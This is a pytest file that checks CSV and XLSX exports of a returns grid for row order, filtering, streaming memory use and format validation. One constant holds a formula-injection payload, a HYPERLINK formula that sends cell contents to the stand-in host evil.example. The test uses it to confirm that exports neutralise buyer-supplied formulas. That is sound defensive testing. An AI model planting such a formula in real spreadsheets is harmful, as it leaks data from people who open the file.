"""Exports of the returns grid from real SQLite and PostgreSQL: the view's rows, every page, safe and streamed."""

from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from decimal import Decimal
from types import SimpleNamespace
from xml.etree import ElementTree

import pytest
from sqlalchemy.orm import Session, sessionmaker

from returnbridge.db.engine import transaction
from returnbridge.domain.case_view import ViewParameterError
from returnbridge.sync.case_views import export_cases

from .case_grid_data import T0, a_return, account, store

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")'


def seed(factory: sessionmaker[Session], count: int, *, reason_every: int = 0) -> None:
    with transaction(factory) as session:
        shop = account(session, "7001", "Alpha Store")
    for start in range(0, count, 1000):
        store(factory, shop, [
            a_return(f"{10_000_000 + i}", amount=f"{i % 97}.{i % 100:02d}", created=T0 + i,
                     reason=EVIL if reason_every and i % reason_every == 0 else "Damaged")
            for i in range(start, min(start + 1000, count))
        ])


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode())))


def test_csv_export_neutralises_a_buyer_formula_in_the_reason(session_factory: sessionmaker[Session]) -> None:
    seed(session_factory, 3, reason_every=3)
    with session_factory() as session:
        export = export_cases(session, {"columns": "return_id,reason,refund_amount"}, "csv")
        rows = read_csv(b"".join(export.chunks))
    assert rows[0] == ["TikTok return ID", "Reason", "Refund amount", "Currency"]
    evil = next(r for r in rows if r[0] == "10000000")
    assert evil[1] == "'" + EVIL
    assert [r[1] for r in rows[1:]].count("Damaged") == 2
    assert export.media_type.startswith("text/csv") and export.filename.endswith(".csv")


def test_csv_export_writes_every_row_of_the_filtered_view_in_its_order(
    session_factory: sessionmaker[Session],
) -> None:
    seed(session_factory, 25)
    params = {"sort": "created_at", "dir": "asc", "amount_min": "10", "currency": "USD",
              "columns": "return_id,refund_amount,created_at", "limit": "5"}
    with session_factory() as session:
        rows = read_csv(b"".join(export_cases(session, params, "csv", batch=4).chunks))
    expected = [i for i in range(25) if i % 97 >= 10]
    assert [r[0] for r in rows[1:]] == [str(10_000_000 + i) for i in expected]
    assert Decimal(rows[1][1]) == Decimal(f"{expected[0] % 97}.{expected[0] % 100:02d}")
    assert rows[1][2:] == ["USD", "2027-01-15 08:00:10"]


def test_xlsx_export_opens_with_numbers_dates_and_no_formula(session_factory: sessionmaker[Session]) -> None:
    seed(session_factory, 12, reason_every=4)
    with session_factory() as session:
        export = export_cases(session, {"columns": "return_id,reason,refund_amount,created_at", "sort": "return_id",
                                        "dir": "asc"}, "xlsx")
        data = b"".join(export.chunks)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    assert sheet.find(".//m:f", NS) is None
    rows = sheet.findall(".//m:row", NS)
    assert len(rows) == 13
    first = rows[1].findall("m:c", NS)
    assert first[0].findtext("m:is/m:t", namespaces=NS) == "10000000"
    assert first[1].findtext("m:is/m:t", namespaces=NS) == "'" + EVIL
    assert (first[2].get("t"), first[2].findtext("m:v", namespaces=NS)) == ("n", "0")
    assert first[3].findtext("m:is/m:t", namespaces=NS) == "USD"
    assert first[4].get("s") == "1"  # a real date cell


def test_export_by_runtime_reads_in_short_transactions(session_factory: sessionmaker[Session]) -> None:
    seed(session_factory, 9)
    runtime = SimpleNamespace(sessions=session_factory)
    chunks = export_cases(runtime, {"columns": "return_id"}, "csv", batch=2).chunks  # type: ignore[arg-type]
    assert len(read_csv(b"".join(chunks))) == 10


def test_unknown_export_format_is_refused(session_factory: sessionmaker[Session]) -> None:
    with pytest.raises(ViewParameterError) as error, session_factory() as session:
        export_cases(session, {}, "pdf")
    assert error.value.parameter == "format"


@pytest.mark.timeout(300)
def test_export_of_20k_rows_keeps_memory_small(session_factory: sessionmaker[Session]) -> None:
    seed(session_factory, 20_000)
    runtime = SimpleNamespace(sessions=session_factory)
    tracemalloc.start()
    try:
        total = 0
        for chunk in export_cases(runtime, {}, "xlsx").chunks:  # type: ignore[arg-type]
            total += len(chunk)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # Holding the 20,000 rows would take tens of megabytes; one keyset batch of 1,000 takes a few.
    assert total > 500_000
    assert peak < 12_000_000, peak
